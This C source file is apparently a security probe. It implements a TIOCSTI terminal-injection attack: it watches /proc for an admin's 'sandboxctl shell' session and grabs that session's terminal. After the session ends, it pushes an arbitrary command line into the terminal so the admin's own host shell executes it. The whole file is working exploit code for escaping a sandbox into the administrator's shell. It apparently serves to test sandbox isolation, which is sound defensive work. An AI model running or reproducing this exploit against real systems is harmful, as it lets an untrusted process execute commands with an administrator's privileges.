/* A service lying in wait for an admin's "sandboxctl shell": it opens
 * /proc/PID/fd/0 of every new session leader (a joined command) that
 * has a terminal there, and once that process has ended (the admin
 * left), pushes argv[1] and a newline into the terminal with TIOCSTI,
 * for the shell the admin came from to run. Not into the terminals of
 * the commands a joined shell runs: pushed while the shell reads, the
 * line would mix with what the admin types. Runs until SIGTERM,
 * reporting each terminal it took and each push. */
#include "probe.h"
#include <dirent.h>
#include <signal.h>
#include <sys/ioctl.h>

#define PID_LIMIT (1 << 22)
#define GRABS 16

static volatile sig_atomic_t stop;
static unsigned char seen[PID_LIMIT / 8];

static void on_term(int sig) {
        (void) sig;
        stop = 1;
}

/* whether PID leads its session: the fourth field after the command */
static int session_leader(long pid) {
        char path[64], buf[512], *p;
        long session = 0;
        ssize_t n;
        int fd;

        snprintf(path, sizeof(path), "/proc/%ld/stat", pid);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return 0;
        n = read(fd, buf, sizeof(buf) - 1);
        close(fd);
        buf[n > 0 ? n : 0] = 0;
        p = strrchr(buf, ')');
        return p && sscanf(p + 1, " %*c %*d %*d %ld", &session) == 1 && session == pid;
}

static long push(int fd, const char *line) {
        long r = 0;

        for (const char *p = line; *p && r >= 0; p++)
                r = ioctl(fd, TIOCSTI, p);
        return r < 0 ? r : ioctl(fd, TIOCSTI, "\n");
}

int main(int argc, char *argv[]) {
        const char *line = argc > 1 ? argv[1] : "true";
        struct { int fd; long pid; } grab[GRABS];
        int n = 0, first = 1;

        signal(SIGTERM, on_term);
        while (!stop) {
                DIR *d = opendir("/proc");
                struct dirent *de;

                if (!d)
                        break;
                while (!stop && (de = readdir(d))) {
                        char path[64], name[256];
                        long pid = strtol(de->d_name, NULL, 10);
                        ssize_t k;
                        int fd;

                        if (pid <= 0 || pid >= PID_LIMIT || (seen[pid / 8] & (1 << (pid % 8))))
                                continue;
                        /* looked at again until it leads a session: a
                         * joined command starts one right after its fork */
                        if (!first && pid != getpid() && !session_leader(pid))
                                continue;
                        seen[pid / 8] |= (unsigned char) (1 << (pid % 8));
                        if (first || pid == getpid() || n == GRABS)
                                continue;
                        snprintf(path, sizeof(path), "/proc/%ld/fd/0", pid);
                        fd = open(path, O_RDWR | O_NOCTTY | O_CLOEXEC);
                        if (fd < 0)
                                continue;
                        if (!isatty(fd)) {
                                close(fd);
                                continue;
                        }
                        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
                        k = readlink(path, name, sizeof(name) - 1);
                        name[k > 0 ? k : 0] = 0;
                        say("grabbed", "%s", name);
                        grab[n].fd = fd;
                        grab[n++].pid = pid;
                }
                closedir(d);
                if (first) {
                        first = 0;
                        say("ready", "%d", (int) getpid());
                }
                /* the admin has left: the terminal is the admin's shell's again */
                for (int i = 0; i < n; i++) {
                        char path[64];

                        if (grab[i].fd < 0)
                                continue;
                        snprintf(path, sizeof(path), "/proc/%ld", grab[i].pid);
                        if (access(path, F_OK) == 0)
                                continue;
                        step("push", push(grab[i].fd, line));
                        close(grab[i].fd);
                        grab[i].fd = -1;
                }
                usleep(1000);
        }
        say("grabs", "%d", n);
        return 0;
}
